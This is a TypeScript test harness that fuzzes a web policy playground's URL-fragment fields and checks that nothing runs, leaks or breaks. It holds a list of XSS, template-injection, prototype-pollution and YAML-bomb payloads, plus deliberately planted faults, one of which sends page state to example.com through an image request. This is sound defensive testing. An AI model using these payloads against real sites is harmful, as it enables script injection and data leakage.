/**
 * Hostile texts in every field: nothing of them runs, nothing leaves the page, nothing breaks it. Each case puts four texts into the
 * address, as a link from a stranger would, looks at a view, and then sees that the page still answers.
 */
import * as fc from "fast-check";
import type { Browser } from "playwright-core";
import { hostilePolicies } from "../../../test/explain/hostile-policies.ts";
import { viewNames } from "../worker/question.ts";
import { fragmentFor } from "./fragment.ts";
import { watchedPage } from "./watched-page.ts";

const texts: readonly string[] = [
  "<script>document.title = 'ran'</script>",
  "<img src=x onerror=\"document.title = 'ran'\">",
  "</title></svg><script>document.title = 'ran'</script>",
  "javascript:document.title='ran'",
  "{{constructor.constructor('document.title=1')()}}",
  "name: <iframe srcdoc=\"<script>parent.document.title='ran'</script>\">\ndecision: allow\ninclude: [{ everyone: {} }]",
  '{ "__proto__": { "polluted": true }, "name": "x", "decision": "allow", "include": [] }',
  "__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\nann: { email: x }",
  "a: &a [*a]",
  "a: &a { b: *a }",
  `x: &x [1,1,1,1]\n${Array.from({ length: 9 }, (_, index) => `y${index}: &y${index} [*${index === 0 ? "x" : `y${index - 1}`},*${index === 0 ? "x" : `y${index - 1}`}]`).join("\n")}`,
  "!!js/function 'function () { document.title = 1 }'",
  "!!binary aGVsbG8=",
  "!!set { a, b }",
  "? [complex, key]\n: value",
  "--- a\n--- b\n--- c",
  "%YAML 9.9\n---\nx",
  "\u0000\u001b[31m\u202e\u2066\ufffe\ud800",
  "\u2028\u2029\u0085",
  'name: \u202egnp.exe\ndecision: allow\ninclude: [{ email: { email: "\u200b@\u200b" } }]',
  "[".repeat(3_000),
  `${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}`,
  `include: ${"[".repeat(400)}${"]".repeat(400)}`,
  "x".repeat(20_000),
  "- ".repeat(1_500),
  "name: 1\ndecision: [allow]\ninclude: { email: x }\nrequire: 7\nexclude: ''",
  "name: { a: 1 }\ndecision: null\ninclude: [null, 1, '', [], [[]], {}]",
  "- null\n- 1\n- []\n- name: x",
  "name: Wiki\npolicies: [1, null, {}, Staff]",
  "ann: 7\nben: { email: 1 }\neve: { nope: 1 }\n'': {}\n1: { identity: 3 }",
  "ann: { meets: [1], fails: x, groups: {}, posture: [], ip: 999.999.999.999 }",
  '{ "success": true, "result": [[[]]], "errors": [] }',
  '{ "success": false, "result": null, "errors": "no" }',
  '{ "format_version": "1.2", "resource_changes": [null, { "type": "cloudflare_access_policy", "change": { "after": { "include": [null, 1, { "github": [null, 1] }] } } }] }',
  '{ "format_version": "1", "values": { "root_module": { "child_modules": [{ "child_modules": 3 }], "resources": "x" } } }',
  '{ "policies": [null, 1, { "name": null }], "applications": [{ "name": "x", "policies": [null] }] }',
  'resource "cloudflare_access_policy" "x" {}',
  "https://example.com/\nname: https://example.com/x.png",
  "<link rel=stylesheet href=https://example.com/x.css><style>@import 'https://example.com/y.css'</style>",
  "![x](https://example.com/x.png) [y](javascript:document.title='ran')",
  "include:\n  - ip: { ip: 0.0.0.0/0 }\n  - ip: { ip: '::/0' }\n  - geo: { country_code: '\u0000' }\nname: x\ndecision: bypass",
  "",
];

const text = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 200 }) },
  { weight: 1, arbitrary: fc.json() },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...texts), fc.constantFrom(...texts), fc.nat(200))
      .map(([one, other, at]) => one.slice(0, at) + other + one.slice(at)),
  },
);

interface Case {
  readonly policy: string;
  readonly before: string;
  readonly people: string;
  readonly applications: string;
  readonly view: string;
}

export function hostileCases(count: number, seed: number): readonly Case[] {
  const policies = hostilePolicies(2 * count, seed).map((policy) => JSON.stringify(policy));
  const others = fc.sample(fc.tuple(text, text, text, text, fc.boolean()), { numRuns: count, seed });
  return others.map(([policy, before, people, applications, isPolicy], index) => ({
    // Half of the cases are policies with hostile texts in them, which get further than texts that nobody can read.
    policy: (isPolicy ? policies[2 * index] : undefined) ?? policy,
    before: (isPolicy ? policies[2 * index + 1] : undefined) ?? before,
    people,
    applications,
    view: viewNames[index % viewNames.length] ?? "words",
  }));
}

/** Something that is done to the page before it runs, to see that the campaign finds it. */
type Planting = () => void;

export const planted: Readonly<Record<string, Planting>> = {
  "texts become markup": () => {
    const { append } = Element.prototype;
    Element.prototype.append = function (...nodes) {
      for (const node of nodes)
        if (typeof node === "string") this.insertAdjacentHTML("beforeend", node);
        else append.call(this, node);
    };
  },
  "a request leaves the page": () => {
    const { replaceState } = History.prototype;
    History.prototype.replaceState = function (...given) {
      replaceState.apply(this, given);
      new Image().src = `https://example.com/?${String(given[2])}`;
    };
  },
  "what is shown fails": () => {
    const { replaceChildren } = Element.prototype;
    Element.prototype.replaceChildren = function (...nodes) {
      if (nodes.some((node) => node instanceof Element && node.textContent?.includes("\\u")))
        throw new Error("planted");
      replaceChildren.apply(this, nodes);
    };
  },
  "a prototype is changed": () => {
    const { replaceChildren } = Element.prototype;
    Element.prototype.replaceChildren = function (...nodes) {
      Object.assign(Object.prototype, { polluted: true });
      replaceChildren.apply(this, nodes);
    };
  },
};

/** A policy that is as it should be: the page has to say so after each case. */
const fine = { policy: "name: Fine\ndecision: deny\ninclude: [{ everyone: {} }]", view: "words" };

export async function hostileTexts(
  browser: Browser,
  url: string,
  cases: readonly Case[],
  planting?: Planting,
): Promise<readonly string[]> {
  const watched = await watchedPage(browser, url);
  const { page, faults, settled } = watched;
  if (planting) await page.addInitScript(planting);
  const failures: string[] = [];
  await watched.open(fragmentFor(fine));
  const go = async (state: object): Promise<void> => {
    await page.evaluate(
      (hash) => {
        document.querySelector("main")?.setAttribute("aria-busy", "true");
        location.hash = hash;
      },
      fragmentFor({ ...state }),
    );
    await settled();
  };
  for (const [index, one] of cases.entries()) {
    const problems: string[] = [];
    try {
      await go(one);
      problems.push(...(await page.evaluate(wrongs)));
      await go(fine);
      const words = await page.locator("#panel-words").innerText();
      if (!words.includes("Fine"))
        problems.push(`The page does not answer any more, it says: ${words.slice(0, 100)}`);
    } catch (error) {
      problems.push(String(error));
    }
    problems.push(...faults.splice(0));
    if (problems.length > 0)
      failures.push(`case ${index}: ${problems.join(" ")} (${JSON.stringify(one).slice(0, 300)})`);
    if (planting && failures.length > 0) break;
  }
  await watched.context.close();
  return failures;
}

/** Runs in the page: what must not be there, whatever was written. */
function wrongs(): string[] {
  const found: string[] = [];
  if (document.title !== "Access policy playground")
    found.push(`A script ran: the title is ${document.title}.`);
  if ("polluted" in {}) found.push("A prototype was changed.");
  const failure = document.querySelector("#failure")?.textContent ?? "";
  if (failure !== "") found.push(`The page failed: ${failure}`);
  const main = document.querySelector("main");
  const strange =
    main?.querySelectorAll("script, iframe, object, embed, link, style, svg, form, img:not(.drawing)") ?? [];
  if (strange.length > 0)
    found.push(`There is an element that nobody made: ${strange[0]?.outerHTML.slice(0, 200)}`);
  for (const link of main?.querySelectorAll("a") ?? [])
    if (!/^(https:\/\/|blob:)/.test(link.href)) found.push(`There is a link to ${link.href}.`);
  for (const one of main?.querySelectorAll("*") ?? [])
    for (const { name } of one.attributes)
      if (name.startsWith("on")) found.push(`There is an attribute ${name}.`);
  return found;
}
